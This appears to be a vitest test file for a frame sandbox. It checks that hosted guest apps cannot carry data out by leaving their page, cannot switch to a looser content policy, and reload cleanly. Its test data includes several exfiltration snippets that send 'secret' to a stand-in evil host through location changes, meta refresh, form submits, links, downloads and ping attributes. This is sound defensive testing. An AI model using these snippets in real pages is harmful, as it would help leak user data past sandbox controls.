import { expect, test } from 'vitest';
import { eventually } from '../support/eventually.js';
import { page, useSandbox, world } from './fixture.js';
import { mountApp, mountUndefended, toGuest, waitFor, type Mounted } from './support.js';
import { type World } from '../support/world.js';
import { FRAME_SANDBOX } from '../../packages/sandbox/src/policy/frame-permissions.js';

useSandbox();

const answersPings = `addEventListener('message', ({ data }) => data.method === 'ping' && send({ id: data.id, result: {} }));`;

/** Each sends the word "secret" to the listener by leaving its own page. */
const toExits = ({ evil }: World): Record<string, string> => ({
  'location =': `location = '${evil}/secret';`,
  'location.replace': `location.replace('${evil}/secret');`,
  'meta refresh': `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${evil}/secret">';`,
  'form POST': `document.body.innerHTML = '<form method="post" action="${evil}/secret"><input name="a"></form>'; document.forms[0].submit();`,
  'form GET': `document.body.innerHTML = '<form action="${evil}/secret"><input name="a"></form>'; document.forms[0].submit();`,
  'a link': `document.body.innerHTML = '<a href="${evil}/secret">x</a>'; document.links[0].click();`,
  download: `document.body.innerHTML = '<a download href="${evil}/secret">x</a>'; document.links[0].click();`,
});

/** Ways that are closed to a sandboxed frame anyway; here they must leave the app alive. */
const toHarmlessExits = ({ evil }: World): Record<string, string> => ({
  'a link to a new tab': `document.body.innerHTML = '<a target="_blank" href="${evil}/secret">x</a>'; document.links[0].click();`,
  'a link to the top': `document.body.innerHTML = '<a target="_top" href="${evil}/secret">x</a>'; document.links[0].click();`,
  'window.open': `say('opened', String(window.open('${evil}/secret')));`,
  'top.location': `try { top.location = '${evil}/secret'; } catch {}`,
  'a link with ping': `document.body.innerHTML = '<a href="#x" ping="${evil}/secret">x</a>'; document.links[0].click();`,
  'a part of the page': `document.body.innerHTML = '<a href="#part">x</a>'; document.links[0].click();`,
});

const lastLoad = async (app: Mounted): Promise<number> =>
  Number((await app.sandboxMessages('frame-loaded')).at(-1)?.['sinceLoaderReady'] ?? -1);

const hasAnswered = async (app: Mounted, id: string): Promise<boolean> =>
  (await app.messages()).some((message) => message.id === id);

const expectAnswer = async (app: Mounted, id: string): Promise<void> => {
  await app.post({ jsonrpc: '2.0', id, method: 'ping' });
  await eventually(() => hasAnswered(app, id)).toBe(true);
};

/** Asks an app that is gone; one beside it, asked afterwards, answers ten times before the first counts as silent. */
const expectSilence = async (app: Mounted, id: string, neighbour: Mounted): Promise<void> => {
  await app.post({ jsonrpc: '2.0', id, method: 'ping' });
  for (let turn = 0; turn < 10; turn += 1) await expectAnswer(neighbour, `${id} ${turn}`);
  expect(await hasAnswered(app, id), `${id}: the app still answers`).toBe(false);
};

const mountNeighbour = async (): Promise<Mounted> => {
  const neighbour = await mountApp(page, world, toGuest(answersPings), { domain: 'neighbour' });
  await waitFor(neighbour, 'ran');
  return neighbour;
};

test('control: the sandbox attribute alone lets a guest carry its words away', async () => {
  for (const [name, script] of Object.entries(toExits(world))) {
    world.forget();
    const url = world.servePlain('/leaves', toGuest(`setTimeout(() => { ${script} }, 50);`));
    await mountUndefended(page, url, FRAME_SANDBOX);
    await eventually(() => world.hits.some((hit) => hit.includes('secret')), 5000).toBe(true);
    expect(world.hits.join(), name).toContain('secret');
  }
});

test('an app that stays shows its loader’s load and its own, which is told as such, also when it loads slowly', async () => {
  const slow = '<script type="module">await new Promise((done) => setTimeout(done, 200));</script>';
  const tellsLoad = `${answersPings} addEventListener('load', () => setTimeout(() => say('loaded', true)));`;
  const app = await mountApp(page, world, toGuest(tellsLoad, `<!doctype html>${slow}`));
  await waitFor(app, 'loaded');
  await eventually(() => app.sandboxMessages('frame-loaded')).not.toEqual([]);
  // What the proxy would say of another load comes before what is asked now.
  await expectAnswer(app, 'still-there');
  expect(await app.sandboxMessages('frame-loaded')).toEqual([
    { sinceLoaderReady: 1 },
    { sinceLoaderReady: 2, app: true },
  ]);
  expect(await app.sandboxMessages('loader-ready')).toHaveLength(1);
});

test('no way of leaving carries anything out, and one that blanks the page shows as one more load', async () => {
  const neighbour = await mountNeighbour();
  const exits = Object.entries(toExits(world)).map(async ([name, script]) => {
    const html = toGuest(`${answersPings} setTimeout(() => { ${script} say('left', true); }, 500);`);
    const app = await mountApp(page, world, html, { domain: name.replaceAll(' ', '-') });
    await waitFor(app, 'ran');
    await waitFor(app, 'left');
    // More than the loader's own load, and told apart from the app's by the app's farewell.
    await eventually(() => app.sandboxMessages('frame-loaded')).toContainEqual({
      sinceLoaderReady: expect.toSatisfy((count: number) => count > 1),
      left: true,
    });
    await expectSilence(app, name, neighbour);
  });
  await Promise.all(exits);
  expect(world.hits).toEqual([]);
});

test('leaving while the page is still being parsed carries nothing out and leaves no answering app', async () => {
  const connections = world.connections();
  const app = await mountApp(page, world, toGuest(`${answersPings} location = '${world.evil}/secret';`));
  await eventually(() => lastLoad(app)).toBeGreaterThan(1);
  await expectSilence(app, 'gone', await mountNeighbour());
  expect(world.hits).toEqual([]);
  expect(world.connections()).toBe(connections);
});

test('links, popups, downloads and the tab itself stay where they are, and the app lives', async () => {
  const address = page.url();
  const exits = Object.entries(toHarmlessExits(world)).map(async ([name, script]) => {
    const html = toGuest(`${answersPings} setTimeout(() => { ${script} say('left', true); }, 50);`);
    const app = await mountApp(page, world, html, { domain: name.replaceAll(' ', '-') });
    await waitFor(app, 'left');
    await expectAnswer(app, name);
  });
  await Promise.all(exits);
  expect(world.hits).toEqual([]);
  expect(page.url()).toBe(address);
  expect(page.context().pages()).toHaveLength(1);
});

test('a guest cannot move to a looser address of its own making', async () => {
  const fetches = `fetch('${world.evil}/loose').then(() => say('loose', true), () => say('strict', true));`;
  const loose = await mountApp(page, world, toGuest(fetches), { csp: { connectDomains: [world.evil] } });
  // Control: at its own address the looser policy is real.
  await waitFor(loose, 'loose');
  const url = (await loose.guest()).url();
  world.forget();
  const app = await mountApp(
    page,
    world,
    toGuest(`setTimeout(() => { location = '${url}'; }, 300); ${fetches}`),
  );
  await waitFor(app, 'strict');
  await eventually(() => lastLoad(app)).toBeGreaterThan(2);
  expect(await app.sandboxMessages('loader-ready')).toHaveLength(1);
  expect(await app.said('loose')).toEqual([]);
  expect(world.hits).toEqual([]);
});

test('a guest that reloads gets its HTML again, with its storage, as a new epoch', async () => {
  const counts = `const count = Number(localStorage.count ?? 0) + 1; localStorage.count = count; say('count', count);
    if (count < 3) setTimeout(() => location.reload(), 100);`;
  const app = await mountApp(page, world, toGuest(answersPings + counts), { domain: 'reloads' });
  await eventually(() => app.said('count')).toEqual([1, 2, 3]);
  await eventually(() => app.sandboxMessages('loader-ready')).toHaveLength(3);
  await eventually(() => lastLoad(app)).toBeGreaterThan(0);
  expect(await lastLoad(app)).toBeLessThanOrEqual(2);
  await expectAnswer(app, 'after-reload');
});
